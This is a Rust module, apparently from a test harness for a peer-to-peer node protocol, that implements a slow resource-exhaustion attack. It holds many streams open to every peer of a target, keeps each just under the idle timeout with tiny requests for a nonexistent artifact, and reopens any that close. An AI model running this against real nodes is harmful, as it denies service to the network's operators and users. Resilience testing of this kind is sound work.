//! Streams to a provider of artifacts, on which a small question is asked now and then.

use super::{Attack, Stranger, Target};
use allod_protocol::ground::{codec, ids::ArtifactId};
use futures::{AsyncReadExt as _, AsyncWriteExt as _};
use serde::Serialize;
use std::{sync::atomic::Ordering, time::Duration};

/// Less than a provider leaves a stream open for without a question.
const PAUSE: Duration = Duration::from_secs(50);

/// As in `node/src/exchange/wire.rs`.
#[derive(Serialize)]
enum Request {
    Tail { artifact: ArtifactId, blob: ArtifactId, max_bytes: u64 },
}

/// So many ids hold so many streams each to every peer of the target, and open others in the place of those that are
/// closed. Counts the questions that were answered.
pub fn begin(target: Target, ids: usize, streams: usize) -> Attack {
    Attack::begin(move |answered| async move {
        for _ in 0..ids {
            let (target, answered) = (target.clone(), answered.clone());
            tokio::spawn(async move {
                let stranger = Stranger::join(&target).await;
                let mut held = Vec::new();
                for (peer, _) in std::iter::repeat_n(&target.peers, streams).flatten() {
                    let (mut control, protocol) = (stranger.streams.clone(), target.protocol("artifact/2"));
                    let (peer, answered) = (*peer, answered.clone());
                    held.push(tokio::spawn(async move {
                        loop {
                            if let Ok(mut stream) = control.open_stream(peer, protocol.clone()).await {
                                while ask(&mut stream).await.is_ok() {
                                    answered.fetch_add(1, Ordering::Relaxed);
                                    tokio::time::sleep(PAUSE).await;
                                }
                            }
                            tokio::time::sleep(Duration::from_millis(100)).await;
                        }
                    }));
                }
                // None of them ends.
                for stream in held {
                    let _ = stream.await;
                }
                drop(stranger);
            });
        }
    })
}

/// Asks for what is not there, and reads that it is not.
async fn ask(stream: &mut libp2p::Stream) -> std::io::Result<()> {
    let artifact = ArtifactId::of(b"nothing");
    let body = codec::encode(&Request::Tail { artifact, blob: artifact, max_bytes: 1 });
    let mut frame = u32::try_from(body.len()).expect("a short frame").to_le_bytes().to_vec();
    frame.extend(body);
    stream.write_all(&frame).await?;
    stream.flush().await?;
    let mut length = [0; 4];
    stream.read_exact(&mut length).await?;
    let mut answer = vec![0; usize::try_from(u32::from_le_bytes(length)).expect("a length").min(1_024)];
    stream.read_exact(&mut answer).await
}
